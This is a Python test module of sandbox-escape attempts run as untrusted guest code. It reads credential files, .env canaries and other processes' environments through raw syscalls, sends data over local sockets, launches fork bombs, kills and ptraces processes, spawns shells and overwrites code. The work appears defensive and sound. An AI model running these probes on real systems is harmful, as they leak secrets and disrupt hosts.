"""Programs that try to get out of a sandbox; this whole text is loaded as a stranger's program.

Every function takes facts about the machine and returns how often it tried, and what it got: an
empty list means that the attack was held. The same functions run outside a sandbox, to show that
they do get something there. Nothing but `sys` is imported in the ordinary way.
"""

# ruff: noqa: B023, BLE001, PTH123, RUF005, SIM105, SIM115, T201

import sys


class Tries:
    """Counts tries and keeps what they got."""

    def __init__(self):
        self.tried = 0
        self.got = []

    def __call__(self, name, action):
        self.tried += 1
        try:
            value = action()
        except BaseException:
            return None
        if value is not None:
            self.got.append(f"{name}: {value!r}"[:300])
        return value

    def report(self):
        return {"tried": self.tried, "got": self.got}


def hunted():
    """Return all modules that are anywhere in this process, by name."""
    for name in ("gc", "ctypes", "socket", "select", "resource", "mmap", "subprocess"):
        try:
            __import__(name)
        except ImportError:
            pass
    gc = sys.modules["gc"]
    gc.unfreeze()
    found = {thing.__name__: thing for thing in gc.get_objects() if type(thing) is type(sys)}
    found.update({name: module for name, module in sys.modules.items() if module})
    return found


MODULES = hunted()
posix = MODULES["posix"]
ctypes = MODULES.get("ctypes")
libc = ctypes.CDLL(None, use_errno=True) if ctypes else None
NUMBERS = {
    "open": (2, -1), "openat": (257, 56), "openat2": (437, 437), "creat": (85, -1),
    "stat": (4, -1), "newfstatat": (262, 79), "statx": (332, 291), "access": (21, -1),
    "readlinkat": (267, 78), "getdents64": (217, 61), "mkdirat": (258, 34), "mknodat": (259, 33),
    "symlinkat": (266, 36), "linkat": (265, 37), "renameat2": (316, 276), "unlinkat": (263, 35),
    "truncate": (76, 45), "chdir": (80, 49), "chroot": (161, 51), "mount": (165, 40),
    "socket": (41, 198), "socketpair": (53, 199), "connect": (42, 203), "sendto": (44, 206),
    "sendmsg": (46, 211), "recvmsg": (47, 212), "bind": (49, 200), "accept": (43, 202),
    "fork": (57, -1), "clone": (56, 220), "clone3": (435, 435), "execve": (59, 221),
    "execveat": (322, 281), "kill": (62, 129), "tkill": (200, 130), "tgkill": (234, 131),
    "rt_sigqueueinfo": (129, 138), "pidfd_open": (434, 434), "pidfd_send_signal": (424, 424),
    "pidfd_getfd": (438, 438), "ptrace": (101, 117), "process_vm_readv": (310, 270),
    "unshare": (272, 97), "setns": (308, 268), "prlimit64": (302, 261), "prctl": (157, 167),
    "io_uring_setup": (425, 425), "io_uring_enter": (426, 426), "io_uring_register": (427, 427),
    "memfd_create": (319, 279), "memfd_secret": (447, 447), "mmap": (9, 222), "mprotect": (10, 226),
    "pkey_mprotect": (329, 288), "personality": (135, 92), "shmget": (29, 194), "shmat": (30, 196),
    "msgget": (68, 186), "semget": (64, 190), "mq_open": (240, 180), "add_key": (248, 217),
    "keyctl": (250, 219), "bpf": (321, 280), "perf_event_open": (298, 241),
    "userfaultfd": (323, 282), "setuid": (105, 146), "setresuid": (117, 147), "setsid": (112, 157),
    "setpriority": (141, 140), "getpriority": (140, 141), "sched_getaffinity": (204, 123),
    "getpgid": (121, 155), "seccomp": (317, 277), "capset": (126, 91), "dup": (32, 23),
    "fcntl": (72, 25), "ioctl": (16, 29), "name_to_handle_at": (303, 264),
    "inotify_init1": (294, 26), "fanotify_init": (300, 262), "getppid": (110, 173),
    "mremap": (25, 216), "setrlimit": (160, 164), "rt_sigaction": (13, 134), "kcmp": (312, 272),
}  # fmt: skip
AT_FDCWD = -100


def raw(name, *arguments):
    """Make a system call by its number. None: it was refused, or there is no such call here."""
    machine = posix.uname().machine if not CONFINED else MACHINE
    number = NUMBERS[name][machine == "aarch64"]
    if libc is None or number < 0:
        return None
    libc.syscall.restype = ctypes.c_long
    made = [ctypes.c_long(each) if isinstance(each, int) else each for each in (number, *arguments)]
    returned = libc.syscall(*made)
    return returned if returned >= 0 else None


CONFINED = MACHINE = None


def learn(facts):
    """Remember what a guest cannot find out."""
    global CONFINED, MACHINE
    CONFINED, MACHINE = facts["confined"], facts["machine"]
    return Tries()


def reading(tries, path):
    """Try to read a file in every way."""
    told = path.encode()

    def through(descriptor):
        return None if descriptor is None else posix.read(descriptor, 4096)

    tries("open", lambda: open(path).read(4096))
    tries("posix.open", lambda: through(posix.open(path, 0)))
    tries("FileIO", lambda: MODULES["_io"].FileIO(path).read(4096))
    tries("open_code", lambda: MODULES["_io"].open_code(path).read(4096))
    tries("linecache", lambda: "".join(MODULES["linecache"].getlines(path)) or None)
    tries("tokenize", lambda: MODULES["tokenize"].open(path).read())
    tries("loader", lambda: loaders()["FileLoader"]("x", path).get_data(path))
    tries("raw open", lambda: through(raw("open", told, 0)))
    tries("raw openat", lambda: through(raw("openat", AT_FDCWD, told, 0)))
    tries("raw openat2", lambda: through(raw("openat2", AT_FDCWD, told, bytes(24), 24)))
    tries("raw creat", lambda: raw("creat", told, 0o600) if CONFINED else None)
    tries("fopen", lambda: libc.fopen(told, b"r") or None)
    tries("stat", lambda: posix.stat(path).st_size)
    tries("raw newfstatat", lambda: raw("newfstatat", AT_FDCWD, told, bytes(200), 0))
    tries("raw statx", lambda: raw("statx", AT_FDCWD, told, 0, 0x7FF, bytes(300)))
    tries("raw access", lambda: raw("access", told, 4))
    tries("access", lambda: posix.access(path, 4) or None)
    tries("exec", lambda: raw("execve", told, None, None) if CONFINED else None)
    tries("handle", lambda: raw("name_to_handle_at", AT_FDCWD, told, bytes(200), bytes(8), 0))


def loaders():
    return vars(MODULES["_frozen_importlib_external"])


def read_passwd(facts):
    tries = learn(facts)
    reading(tries, "/etc/passwd")
    reading(tries, "/proc/self/root/etc/passwd")
    tries("getpwall", lambda: MODULES["pwd"].getpwall())
    return tries.report()


def read_canary(facts):
    tries = learn(facts)
    for path in (facts["canary"], f"/proc/{facts['parent']}/cwd/.env", ".env"):
        reading(tries, path)
    tries("readlink", lambda: posix.readlink("/proc/self/cwd"))
    tries("getcwd", posix.getcwd)
    tries("listdir", lambda: posix.listdir(facts["project"]))
    return tries.report()


def environments(facts):
    tries = learn(facts)
    for pid in (facts["victim"], facts["parent"], "self", 1):
        reading(tries, f"/proc/{pid}/environ")
    tries("parent", lambda: reading_memory(facts["parent"]))
    return tries.report()


def own_environment(facts):
    """Return all that this process has of an environment."""
    learn(facts)
    told = [f"{key!r}={value!r}" for key, value in posix.environ.items()]
    pointers = ctypes.POINTER(ctypes.c_char_p).in_dll(libc, "environ") if libc else None
    place = 0
    while pointers and pointers[place]:
        told.append(pointers[place].decode("latin-1"))
        place += 1
    return {"tried": 1 + place, "got": told + [repr(sys.argv), repr(sys.orig_argv)]}


def list_processes(facts):
    tries = learn(facts)
    for path in ("/proc", "/proc/self/task", "/sys", "/"):
        tries("listdir", lambda path=path: posix.listdir(path))
        tries("scandir", lambda path=path: [each.name for each in posix.scandir(path)])
    for pid in (facts["victim"], facts["parent"], facts["parent"] + 1, 1):
        reading(tries, f"/proc/{pid}/cmdline")
        tries("kill 0", lambda pid=pid: raw("kill", pid, 0))
        tries("getpgid", lambda pid=pid: raw("getpgid", pid))
        tries("getpriority", lambda pid=pid: raw("getpriority", 0, pid))
        tries("affinity", lambda pid=pid: raw("sched_getaffinity", pid, 128, bytes(128)))
        tries("pidfd", lambda pid=pid: raw("pidfd_open", pid, 0))
        tries("prlimit", lambda pid=pid: raw("prlimit64", pid, 7, None, bytes(16)))
        tries("kcmp", lambda pid=pid: raw("kcmp", pid, pid, 0, 0, 0))
    tries("getppid", lambda: raw("getppid"))
    return tries.report()


def reading_memory(pid):
    place = ctypes.create_string_buffer(64)
    vector = (ctypes.c_void_p * 2)(ctypes.addressof(place), 64)
    return raw("process_vm_readv", pid, vector, 1, vector, 1, 0)


def sockets(tries, family, kind, address, raw_address):
    """Try to reach an address with a socket in every way."""
    sockets = MODULES.get("_socket") or MODULES.get("socket")

    def connected():
        made = sockets.socket(family, kind)
        made.settimeout(2)
        made.connect(address)
        made.send(b"stolen")
        return "sent"

    def sent():
        return sockets.socket(family, kind).sendto(b"stolen", address)

    def by_number(last):
        descriptor = raw("socket", family, kind, 0)
        if descriptor is None:
            return None
        if last == "connect":
            return raw("connect", descriptor, raw_address, len(raw_address))
        return raw("sendto", descriptor, b"stolen", 6, 0, raw_address, len(raw_address))

    tries("connect", connected)
    tries("sendto", sent)
    tries("raw connect", lambda: by_number("connect"))
    tries("raw sendto", lambda: by_number("sendto"))
    tries("raw socketpair", lambda: raw("socketpair", 1, 1, 0, bytes(8)))
    for descriptor in range(4):
        tries("line as socket", lambda: raw("connect", descriptor, raw_address, len(raw_address)))
        tries("line sendto", lambda: raw("sendto", descriptor, b"x", 1, 0, raw_address, 16))
        tries("accept", lambda: raw("accept", descriptor, None, None) if CONFINED else None)


def internet(port):
    return bytes([2, 0]) + port.to_bytes(2, "big") + bytes([127, 0, 0, 1]) + bytes(8)


def tcp(facts):
    tries = learn(facts)
    port = facts["tcp"]
    sockets(tries, 2, 1, ("127.0.0.1", port), internet(port))
    tries("listen", lambda: MODULES["socket"].create_server(("127.0.0.1", 0)).fileno())
    tries("resolve", lambda: MODULES["_socket"].getaddrinfo("localhost", 80))
    return tries.report()


def udp(facts):
    tries = learn(facts)
    sockets(tries, 2, 2, ("127.0.0.1", facts["udp"]), internet(facts["udp"]))
    return tries.report()


def unix(facts):
    tries = learn(facts)
    for name in ("\0" + facts["abstract"], facts["pathname"]):
        for kind in (1, 2):
            sockets(tries, 1, kind, name, bytes([1, 0]) + name.encode())
    return tries.report()


def born(tries, job, many):
    """Try to make children in every way; each does a job and ends."""

    def forked(make):
        pid = make()
        if pid == 0:
            job()
            posix._exit(0)
        return pid

    for number in range(many):
        tries(f"fork {number}", lambda: forked(posix.fork))
    tries("raw fork", lambda: forked(lambda: raw("fork")))
    tries("raw clone", lambda: forked(lambda: raw("clone", 17, 0, 0, 0, 0)))
    if CONFINED:
        tries("clone as a thread", lambda: raw("clone", 0x10F00, 0, 0, 0, 0))
        tries("raw clone3", lambda: raw("clone3", (17).to_bytes(88, "little"), 88))
        tries("forkpty", lambda: forked(lambda: posix.forkpty()[0]))
        tries("thread", lambda: MODULES["_thread"].start_new_thread(job, ()))
    tries("spawn", lambda: posix.posix_spawn("/bin/true", ["true"], {}))
    tries("libc fork", lambda: forked(lambda: (lambda pid: pid if pid >= 0 else None)(libc.fork())))


def fork_bomb(facts):
    tries = learn(facts)
    born(tries, lambda: None, 3_000 if CONFINED else 3)
    return tries.report()


def daemon(facts):
    tries = learn(facts)

    def job():
        raw("setsid")
        if posix.fork() == 0:
            with open(facts["project"] + "/daemon", "w"):
                MODULES["time"].sleep(0 if not CONFINED else 60)

    born(tries, job, 1)
    return tries.report()


def memory(facts):
    """Return how many megabytes could be had in each way."""
    learn(facts)
    most = {}

    def held(name, one):
        kept = []
        try:
            while len(kept) < 10_240 // 64:
                kept.append(one())
                if kept[-1] is None:
                    kept.pop()
                    break
        except BaseException:
            pass
        most[name] = 64 * len(kept)
        return kept

    size = 64 << 20
    held("bytearray", lambda: bytearray(b"x") * size)
    held("list", lambda: [None] * (size // 8))
    if libc:
        libc.calloc.restype = ctypes.c_void_p
        for place in held("calloc", lambda: libc.calloc(1, size)):
            libc.free(ctypes.c_void_p(place))
        for name, flags in (("private", 0x22), ("shared", 0x21), ("no reserve", 0x4022)):
            for place in held(name, lambda flags=flags: raw("mmap", 0, size, 3, flags, -1, 0)):
                libc.munmap(ctypes.c_void_p(place), ctypes.c_size_t(size))
    return most


def children_memory(facts):
    tries = learn(facts)
    kept = []
    born(tries, lambda: kept.append(bytearray(b"x") * (400 << 20)), 8)
    return tries.report()


def infinite_loop(facts):
    MODULES["_signal"].signal  # noqa: B018 - it is there, and of no use
    for number in range(1, 65):
        try:
            MODULES["_signal"].signal(number, MODULES["_signal"].SIG_IGN)
        except BaseException:
            pass
    while True:
        try:
            while True:
                pass
        except BaseException:
            pass


def sleep(facts):
    while True:
        try:
            MODULES["time"].sleep(1_000)
        except BaseException:
            pass


def two_gigabytes(facts):
    learn(facts)
    block = b"x" * (1 << 20)
    written = 0
    for number in range(2_048):
        written += posix.write(1 + number % 2, block)
    for _ in range(64):
        print("x" * (1 << 20))
    return {"tried": written >> 20, "got": []}


def flood_line(facts):
    block = b"x" * (1 << 16)
    while True:
        posix.write(3, block)


def write_file(path, blocks=1):
    block = b"x" * (1 << 20)
    descriptor = posix.open(path, 0o101, 0o644)
    for _ in range(blocks):
        posix.write(descriptor, block)
    return path


def making(tries, path, blocks=1):
    """Try to make a file in every way."""
    told = path.encode()
    tries("open", lambda: write_file(path, blocks))
    tries("open w", lambda: open(path, "w").write("x"))
    tries("raw open", lambda: raw("open", told, 0o101, 0o644))
    tries("raw openat", lambda: raw("openat", AT_FDCWD, told, 0o101, 0o644))
    tries("raw creat", lambda: raw("creat", told, 0o644))
    tries("raw mknod", lambda: raw("mknodat", AT_FDCWD, told + b".fifo", 0o10644, 0))
    tries("mkdir", lambda: raw("mkdirat", AT_FDCWD, told + b".d", 0o755))
    tries("truncate", lambda: raw("truncate", told, 1 << 30))
    tries("temporary", lambda: raw("openat", AT_FDCWD, b"/tmp", 0o20200002, 0o600))


def big_file(facts):
    tries = learn(facts)
    for folder in (facts["project"], "/tmp", "/dev/shm", "/var/tmp", "."):
        making(tries, f"{folder}/{facts['mark']}-big", 10_000 if CONFINED else 1)
    return tries.report()


def many_files(facts):
    tries = learn(facts)
    for number in range(300 if CONFINED else 2):
        making(tries, f"{facts['project']}/{facts['mark']}-{number}")
    return tries.report()


def leave_in_tmp(facts):
    tries = learn(facts)
    for folder in ("/tmp", "/var/tmp", "/dev/shm", "/run/lock"):
        making(tries, f"{folder}/{facts['mark']}-left")
    if CONFINED:
        for name in ("shmget", "msgget", "semget"):
            tries(name, lambda name=name: raw(name, 0x5EED, 1, 0o1600))
        tries("mq_open", lambda: raw("mq_open", b"seed", 0o101, 0o600, None))
        tries("add_key", lambda: raw("add_key", b"user", b"seed", b"x", 1, -4))
    return tries.report()


def signals(tries, pid, number):
    """Try to signal a process in every way."""
    told = (
        number.to_bytes(4, "little", signed=True)
        + bytes(4)
        + (-1).to_bytes(4, "little", signed=True)
    )
    tries("kill", lambda: posix.kill(pid, number) or "sent")
    tries("killpg", lambda: posix.killpg(pid, number) or "sent" if CONFINED else None)
    tries("raw kill", lambda: raw("kill", pid, number))
    tries("raw tkill", lambda: raw("tkill", pid, number))
    tries("raw tgkill", lambda: raw("tgkill", pid, pid, number))
    tries("raw sigqueue", lambda: raw("rt_sigqueueinfo", pid, number, told + bytes(116)))
    tries("pidfd", lambda: raw("pidfd_send_signal", raw("pidfd_open", pid, 0), number, None, 0))
    tries("fcntl owner", lambda: raw("fcntl", 3, 8, pid))
    for what in (7, 0) if CONFINED else ():
        tries("prlimit", lambda what=what: raw("prlimit64", pid, what, bytes(16), None))


def kill_another(facts):
    tries = learn(facts)
    signals(tries, facts["victim"], 9)
    tries("all", lambda: raw("kill", -1, 9) if CONFINED else None)
    return tries.report()


def signal_parents(facts):
    tries = learn(facts)
    for pid in (facts["parent"], facts["server"]):
        if pid:
            signals(tries, pid, 10)
    signals(tries, 1, 0)
    tries("own group", lambda: raw("kill", 0, 10) if CONFINED else None)
    return tries.report()


def trace(facts):
    tries = learn(facts)
    for pid in (facts["victim"], facts["parent"], facts["server"]):
        if not pid or (pid != facts["victim"] and not CONFINED):
            continue
        tries("seize", lambda pid=pid: raw("ptrace", 0x4206, pid, 0, 0))
        tries("attach", lambda pid=pid: raw("ptrace", 16, pid, 0, 0))
        tries("read", lambda pid=pid: reading_memory(pid))
        tries(
            "take descriptor", lambda pid=pid: raw("pidfd_getfd", raw("pidfd_open", pid, 0), 1, 0)
        )
        for name in ("mem", "maps", "syscall", "auxv", "fd/3", "exe", "io"):
            tries(name, lambda pid=pid, name=name: open(f"/proc/{pid}/{name}", "rb").read(1))
    tries("trace me", lambda: raw("ptrace", 0, 0, 0, 0) if CONFINED else None)
    return tries.report()


def namespaces(facts):
    tries = learn(facts)
    for flag in (0x10000000, 0x20000, 0x40000000, 0x20000000, 0x4000000, 0x8000000, 0x2000000):
        tries(f"unshare {flag:x}", lambda flag=flag: raw("unshare", flag))
        if CONFINED:
            tries("clone", lambda flag=flag: raw("clone", flag | 17, 0, 0, 0, 0))
            tries("setns", lambda flag=flag: raw("setns", 3, flag))
    tries("libc unshare", lambda: None if libc.unshare(0x10000000) else "new")
    tries("chroot", lambda: raw("chroot", b"/"))
    tries("chdir", lambda: raw("chdir", b"/tmp"))
    tries("mount", lambda: raw("mount", b"none", b"/tmp", b"tmpfs", 0, None) if CONFINED else None)
    return tries.report()


def symlink(facts):
    tries = learn(facts)
    link = f"{facts['project']}/{facts['mark']}-link"
    tries("symlink", lambda: posix.symlink("/etc/passwd", link) or link)
    tries("raw", lambda: raw("symlinkat", b"/etc/passwd", AT_FDCWD, link.encode() + b"2"))
    tries("link", lambda: raw("linkat", AT_FDCWD, facts["canary"].encode(), AT_FDCWD,
                              link.encode() + b"3", 0))  # fmt: skip
    return tries.report()


def shell(facts):
    tries = learn(facts)
    words = (ctypes.c_char_p * 4)(b"sh", b"-c", b"exit 7", None) if ctypes else None
    if CONFINED:
        tries("exec", lambda: posix.execv("/bin/sh", ["sh"]))
        tries("raw execve", lambda: raw("execve", b"/bin/sh", words, None))
        tries("raw execveat", lambda: raw("execveat", AT_FDCWD, b"/bin/sh", words, None, 0))
    tries("spawn", lambda: posix.posix_spawn("/bin/sh", ["sh", "-c", "exit 7"], {}))
    tries("spawnp", lambda: posix.posix_spawnp("sh", ["sh", "-c", "exit 7"], {}))
    tries("system", lambda: None if posix.system("exit 7") in (-1, 127 << 8) else "ran")
    tries("libc system", lambda: "ran" if libc.system(b"exit 7") == 7 << 8 else None)
    tries("popen", lambda: MODULES["os"].popen("echo ran").read() or None)
    return tries.report()


def write_code(facts):
    tries = learn(facts)
    for path in facts["code"]:
        tries("open", lambda path=path: posix.open(path, 0o1))
        tries("append", lambda path=path: open(path, "ab").fileno())
        tries("raw", lambda path=path: raw("openat", AT_FDCWD, path.encode(), 0o2))
        tries("new", lambda path=path: write_file(path + ".new"))
        if CONFINED:
            tries("truncate", lambda path=path: raw("truncate", path.encode(), 0))
            tries("unlink", lambda path=path: raw("unlinkat", AT_FDCWD, path.encode(), 0))
            tries("rename", lambda path=path: raw("renameat2", AT_FDCWD, path.encode(), AT_FDCWD,
                                                  path.encode() + b".old", 0))  # fmt: skip
    return tries.report()


def descriptors(facts):
    """Try to use every descriptor but the line; `close` tells which of them are open."""
    tries = learn(facts)
    for descriptor in (0, 1, 2):
        tries(f"read {descriptor}", lambda d=descriptor: posix.read(d, 100) or None)
    for descriptor in [facts["secret"], *(range(4, 5_000) if CONFINED else ())]:
        tries(f"read {descriptor}", lambda d=descriptor: posix.read(d, 100))
        if CONFINED:
            tries(f"close {descriptor}", lambda d=descriptor: posix.close(d) or "was open")
    for descriptor in range(4):
        tries("dup", lambda d=descriptor: raw("dup", d))
        tries("receive", lambda d=descriptor: raw("recvmsg", d, bytes(56), 0x40))
        tries("ioctl", lambda d=descriptor: raw("ioctl", d, 0x5412, b"x"))
        tries("fcntl", lambda d=descriptor: raw("fcntl", d, 3, 0) if CONFINED else None)
    return tries.report()


def io_uring(facts):
    tries = learn(facts)
    place = ctypes.create_string_buffer(248)
    tries("setup", lambda: raw("io_uring_setup", 4, place))
    tries("enter", lambda: raw("io_uring_enter", 3, 1, 0, 0, None, 0))
    tries("register", lambda: raw("io_uring_register", -1, 0, place, 1))
    for name, arguments in {
        "bpf": (0, place, 48),
        "perf_event_open": (place, 0, -1, -1, 0),
        "userfaultfd": (1,),
        "inotify_init1": (0,),
        "fanotify_init": (0, 0),
    }.items():
        if CONFINED:
            tries(name, lambda name=name, arguments=arguments: raw(name, *arguments))
    return tries.report()


def memfd(facts):
    tries = learn(facts)
    descriptor = tries("memfd", lambda: posix.memfd_create("x"))
    tries("raw memfd", lambda: raw("memfd_create", b"x", 0))
    tries("secret", lambda: raw("memfd_secret", 0) if CONFINED else None)
    if CONFINED:
        for each in (descriptor or 3, 0):
            tries("exec", lambda each=each: raw("execveat", each, b"", None, None, 0x1000))
    return tries.report()


def executable_memory(facts):
    tries = learn(facts)
    page = raw("mmap", 0, 4096, 3, 0x22, -1, 0)
    for rights in (7, 5, 4):
        tries("mmap", lambda rights=rights: raw("mmap", 0, 4096, rights, 0x22, -1, 0))
        tries("shared", lambda rights=rights: raw("mmap", 0, 4096, rights, 0x21, -1, 0))
        tries("mprotect", lambda rights=rights: raw("mprotect", page, 4096, rights))
        tries("pkey", lambda rights=rights: raw("pkey_mprotect", page, 4096, rights, -1))
        # Not read: where the processor has protection keys, what may only be executed cannot be.
        tries("module", lambda rights=rights: MODULES["mmap"].mmap(-1, 4096, prot=rights).size())
    code = ctypes.cast(libc.getpid, ctypes.c_void_p).value & ~4095
    tries("make code writable", lambda: raw("mprotect", code, 4096, 7) if CONFINED else None)
    if CONFINED:
        tries("personality", lambda: raw("personality", 0x0400000))
        tries("shm", lambda: raw("shmat", raw("shmget", 0, 4096, 0o1700), 0, 0o100000))
    return tries.report()


def own_memory(facts):
    tries = learn(facts)
    for name in ("mem", "maps", "pagemap", "environ", "cmdline", "fd/3", "clear_refs"):
        for pid in ("self", "thread-self"):
            tries(name, lambda pid=pid, name=name: open(f"/proc/{pid}/{name}", "rb").read(1))
            tries("write", lambda pid=pid, name=name: posix.open(f"/proc/{pid}/{name}", 1))
    return tries.report()


def more_rights(facts):
    tries = learn(facts)
    if CONFINED:
        for option, value in ((4, 1), (15, 0), (22, 0), (35, 1), (36, 1), (1, 0), (38, 0), (8, 1)):
            tries(f"prctl {option}", lambda o=option, v=value: raw("prctl", o, v, 0, 0, 0))
        tries("setuid", lambda: raw("setuid", 0))
        tries("signal handler", lambda: raw("rt_sigaction", 24, bytes(32), None, 8))
    most = (1 << 64) - 1
    for limit in range(16):
        told = most.to_bytes(8, "little") * 2
        tries("prlimit", lambda limit=limit: raw("prlimit64", 0, limit, None, told))
        tries("setrlimit", lambda limit=limit: raw("setrlimit", limit, told) if CONFINED else None)
    tries("resource", lambda: MODULES["resource"].getrlimit(0))
    tries("capset", lambda: raw("capset", bytes(8), bytes(24)) if CONFINED else None)
    tries("seccomp", lambda: raw("seccomp", 2, 0, b"\0\0\0\0"))
    tries("setpriority", lambda: raw("setpriority", 0, 0, -5) if CONFINED else None)
    return tries.report()


def foreign_calls(facts):
    """Call read by its number in the x32 ABI; the kernel ends whoever does."""
    learn(facts)
    if MACHINE != "x86_64" or libc is None:
        MODULES["posix"].abort()
    libc.syscall(ctypes.c_long(0x40000000), 0, None, 0)
    return {"tried": 1, "got": ["lives on"]}
